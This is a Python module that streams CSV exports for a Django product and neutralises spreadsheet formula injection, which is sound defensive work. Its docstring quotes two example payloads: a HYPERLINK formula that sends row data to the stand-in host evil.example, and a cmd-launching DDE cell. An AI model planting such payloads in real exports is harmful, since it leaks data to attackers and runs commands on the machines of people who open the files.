"""The one CSV writer: every CSV the product serves is streamed through ``csv_response``.

CSV files are opened in spreadsheets, and a spreadsheet runs a cell that
starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return it
strips first) as a formula: ``=HYPERLINK("http://evil.example/?x="&A1)``
typed as an applicant reference would leak the row to whoever wrote it.
Following OWASP's advice, every text cell is written quoted and a text
cell that starts with one of those characters gets a leading apostrophe, so
it is shown as text. A formula character that follows a ``;`` or ``,``
inside a cell gets the same apostrophe: a
spreadsheet that splits on ``;`` (many European locales) honours quotes only
at the start of a field, so in ``1,"x;=cmd|' /C calc'!A0;"`` it would
otherwise see the cell ``=cmd|' /C calc'!A0``.

The file starts with a UTF-8 byte-order mark: without it Excel reads the
file in the machine's legacy code page and garbles names with accents.

Numbers (``int``, ``float``, ``Decimal``) are written unquoted and as they
are, so a negative number stays a number; anything typed by a person arrives
here as ``str`` and is neutralised.

**Complete or visibly cut.** An export of a million rows streams for longer
than gunicorn's worker timeout (30 s), and gunicorn kills a sync worker whose
heartbeat stops: the user got a truncated file that looked like any other.
Two defences: while rows are flowing, ``csv_lines`` beats the worker's
heartbeat (``keep_worker_alive_with``, registered by ``gunicorn.conf.py``;
a stream stalled on a client that stops reading still times out), and an
export made with ``end_marker=True`` ends with the line
``# END OF EXPORT: N data rows``. A stream that fails part way (a database
error, a killed worker) never writes that line, so a file without it, or
whose count differs from its rows, is not the whole export.

Lives in ``infrastructure`` because both the applications and the audit
apps export, and every app may import this layer.
"""

from __future__ import annotations

import datetime as dt
import itertools
import logging
import re
import time
from collections.abc import Callable, Iterable, Iterator
from decimal import Decimal
from typing import Any

from django.http import StreamingHttpResponse

logger = logging.getLogger(__name__)

END_MARKER = "# END OF EXPORT: {count} data rows"
# How often a streaming export tells the server's worker supervisor it is alive (well under its timeout).
HEARTBEAT_SECONDS = 5.0
_heartbeat: Callable[[], None] | None = None


def keep_worker_alive_with(notify: Callable[[], None] | None) -> None:
    """Register the serving process's heartbeat (gunicorn's ``worker.notify``), beaten while an export streams."""
    global _heartbeat
    _heartbeat = notify


# What a spreadsheet treats as the start of a formula (tab and CR are
# stripped by some before they look at the next character).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n")
BOM = "\ufeff"
_FORMULA_FIRST = frozenset(FORMULA_PREFIXES)
# A formula character right after a separator (spaces between allowed).
_AFTER_SEPARATOR = re.compile(r"([;,] *)(?=[=+\-@\t\r\n])")
_COMMA_THEN_FORMULA = re.compile(r",(?= *[=+\-@\t\r\n])")
_SEMICOLON_THEN_FORMULA = re.compile(r";(?= *[=+\-@\t\r\n])")


def safe_cell(value: Any) -> Any:
    """One cell as it is safe to write: numbers as they are, text neutralised."""
    if type(value) is str:
        return _safe_text(value)
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, dt.datetime | dt.date):
        return value.isoformat()
    return _safe_text(str(value))


def _safe_text(text: str) -> str:
    # A separator followed by a formula character is searched for with two patterns that start with a literal
    # (which the regex engine finds fast), and only a text that has one is rewritten: the same text as the
    # substitution alone gives, at a quarter of its cost on a long JSON cell.
    if ("," in text and _COMMA_THEN_FORMULA.search(text)) or (";" in text and _SEMICOLON_THEN_FORMULA.search(text)):
        text = _AFTER_SEPARATOR.sub(r"\1'", text)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


def _written(value: Any) -> str:
    """``value`` as ``csv.writer(quoting=QUOTE_NONNUMERIC)`` writes ``safe_cell(value)``: text quoted, numbers bare."""
    cell = safe_cell(value)
    if isinstance(cell, str):
        return '"' + cell.replace('"', '""') + '"'
    return str(cell)


# Written as they are, without a call per cell (exact types: bool, an int, goes through safe_cell).
_PLAIN_NUMBERS = frozenset({int, float, Decimal})
# Rows written per chunk of the stream: one write to the client per chunk instead of one per row.
ROWS_PER_CHUNK = 256
LINE_END = "\r\n"


def csv_lines(rows: Iterable[Iterable[Any]], *, end_marker: bool = False) -> Iterator[str]:
    """The CSV text of ``rows``, ``ROWS_PER_CHUNK`` lines at a time, every cell through ``safe_cell``.

    The first row is the header. With ``end_marker``, a last line states how
    many data rows came before it (``END_MARKER``); it is written only once
    every row was. The worker's heartbeat is beaten while lines flow. If
    ``rows`` fails part way, the rows before the failure are sent, then the
    failure propagates (and the end line is never written).

    The text is exactly what ``csv.writer(quoting=csv.QUOTE_NONNUMERIC)``
    writes (every text cell quoted, a quote inside doubled; numbers bare, so
    spreadsheets read them as numbers; ``\r\n`` after each row), built here
    because the csv module examines every character of a cell one by one:
    on the decision export's long JSON cells it was most of the time.
    """
    plain, first, safe_text, written_as = _PLAIN_NUMBERS, _FORMULA_FIRST, _safe_text, _written
    lines: list[str] = []
    written = 0
    beaten = time.monotonic()
    try:
        for row in rows:
            # Inline, without a call per cell (the common case): text that starts with no formula character and
            # has no separator, and numbers; the rest goes through safe_cell.
            lines.append(
                ",".join(
                    [
                        '"'
                        + (
                            value
                            if value[:1] not in first and "," not in value and ";" not in value
                            else safe_text(value)
                        ).replace('"', '""')
                        + '"'
                        if type(value) is str
                        else str(value)
                        if type(value) in plain
                        else written_as(value)
                        for value in row
                    ]
                )
                + LINE_END
            )
            if len(lines) == ROWS_PER_CHUNK:
                written += len(lines)
                yield "".join(lines)
                lines.clear()
                if _heartbeat is not None:
                    now = time.monotonic()
                    if now - beaten >= HEARTBEAT_SECONDS:
                        _heartbeat()
                        beaten = now
    except Exception:
        # What was written before the failure still goes out; the failure then cuts the download, without
        # its end line.
        if lines:
            yield "".join(lines)
        raise
    written += len(lines)
    if end_marker:
        lines.append(END_MARKER.format(count=max(written - 1, 0)) + LINE_END)
    if lines:
        yield "".join(lines)


def _logged(lines: Iterator[str], filename: str) -> Iterator[str]:
    """``lines``, and a log line naming the file if the stream fails part way (the download is then cut short)."""
    try:
        yield from lines
    except Exception:
        logger.exception("CSV export %s failed part way; the download is cut short, without its end line", filename)
        raise


def csv_response(rows: Iterable[Iterable[Any]], *, filename: str, end_marker: bool = False) -> StreamingHttpResponse:
    """A streamed CSV download of ``rows`` (the first row is the header), UTF-8 with a byte-order mark.

    ``end_marker``: the file's last line is ``# END OF EXPORT: N data rows``
    (see the module docstring); a cut stream lacks it.
    """
    lines = _logged(csv_lines(rows, end_marker=end_marker), filename)
    response = StreamingHttpResponse(itertools.chain((BOM,), lines), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
